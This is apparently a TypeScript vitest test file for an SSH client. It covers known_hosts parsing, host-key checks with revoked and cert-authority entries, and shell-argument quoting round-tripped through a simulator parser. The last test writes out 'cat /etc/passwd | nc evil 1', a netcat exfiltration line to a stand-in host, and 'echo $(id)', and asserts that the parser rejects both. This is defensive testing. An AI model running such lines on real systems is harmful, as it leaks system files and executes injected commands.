import { createHmac } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { checkHostKey, fingerprintOf, hostFieldMatches, knownHostsName, parseKnownHosts } from './host-key.ts';
import { quoteArgv, renderSteps } from './shell-quote.ts';
import { parseCommandLine } from '../../sim/ssh/tokenize.ts';

const keyA = Buffer.from('0000000b7373682d6564323535313900000020' + 'aa'.repeat(32), 'hex');
const keyB = Buffer.from('0000000b7373682d6564323535313900000020' + 'bb'.repeat(32), 'hex');
const b64 = (key: Buffer) => key.toString('base64');

function hashed(name: string): string {
  const salt = Buffer.alloc(20, 7);
  return `|1|${salt.toString('base64')}|${createHmac('sha1', salt).update(name).digest('base64')}`;
}

describe('host key trust', () => {
  it('fingerprints like ssh-keygen (unpadded base64 SHA-256)', () => {
    expect(fingerprintOf(keyA)).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  it('names non-22 ports as [host]:port', () => {
    expect(knownHostsName('pve', 22)).toBe('pve');
    expect(knownHostsName('10.0.0.2', 2222)).toBe('[10.0.0.2]:2222');
  });

  it.each([
    ['pve,10.0.0.2', 'pve', true],
    ['pve,10.0.0.2', '10.0.0.2', true],
    ['*.home.arpa', 'pve.home.arpa', true],
    ['*.home.arpa,!evil.home.arpa', 'evil.home.arpa', false],
    ['pve?', 'pve1', true],
    ['[pve]:2222', 'pve', false],
    [hashed('[pve]:2222'), '[pve]:2222', true],
    [hashed('pve'), 'other', false],
  ])('host field %s matches %s: %s', (field, name, expected) => {
    expect(hostFieldMatches(field, name)).toBe(expected);
  });

  it('accepts the listed key, refuses another, an unknown host and a revoked key', () => {
    const knownHosts = [
      '# comment',
      `pve ssh-ed25519 ${b64(keyA)} root@pve`,
      `@cert-authority *.home.arpa ssh-ed25519 ${b64(keyB)}`,
      `@revoked old ssh-ed25519 ${b64(keyB)}`,
      `old ssh-ed25519 ${b64(keyB)}`,
    ].join('\n');
    expect(parseKnownHosts(knownHosts)).toHaveLength(4);
    expect(checkHostKey({ knownHosts }, 'pve', 22, keyA)).toMatchObject({ ok: true });
    expect(checkHostKey({ knownHosts }, 'pve', 22, keyB)).toMatchObject({ ok: false, reason: 'mismatch' });
    expect(checkHostKey({ knownHosts }, 'pve', 2222, keyA)).toMatchObject({ ok: false, reason: 'unknown' });
    expect(checkHostKey({ knownHosts }, 'old', 22, keyB)).toMatchObject({ ok: false, reason: 'revoked' });
    expect(checkHostKey({ fingerprint: fingerprintOf(keyA) }, 'x', 22, keyA)).toMatchObject({ ok: true });
    expect(checkHostKey({ fingerprint: `${fingerprintOf(keyA)}=` }, 'x', 22, keyA)).toMatchObject({ ok: true });
    expect(checkHostKey({ fingerprint: fingerprintOf(keyA) }, 'x', 22, keyB)).toMatchObject({ ok: false });
  });
});

describe('command quoting round trip (client quoting → simulator parser)', () => {
  it.each([
    [['cat', '/etc/a b/c']],
    [['echo', "it's", '$HOME', '`x`', 'a;b', '&&', '>']],
    [['dpkg-query', '-W', '-f', '${Package} ${Status}\\n', 'dnsmasq']],
    [['printf', '']],
  ])('%j survives', (argv) => {
    expect(parseCommandLine(quoteArgv(argv))).toEqual([{ argv }]);
  });

  it('keeps && steps and redirects apart from quoted words', () => {
    const line = renderSteps([
      { argv: ['umask', '077'] },
      { argv: ['cat'], redirectTo: '/tmp/x y' },
      { argv: ['mv', '-f', 'a&&b', 'c'] },
    ]);
    expect(parseCommandLine(line)).toEqual([
      { argv: ['umask', '077'] },
      { argv: ['cat'], redirectTo: '/tmp/x y' },
      { argv: ['mv', '-f', 'a&&b', 'c'] },
    ]);
  });

  it('rejects shell syntax the client never sends', () => {
    expect(() => parseCommandLine('cat /etc/passwd | nc evil 1')).toThrow(/unsupported/);
    expect(() => parseCommandLine('echo $(id)')).toThrow(/unsupported/);
  });
});
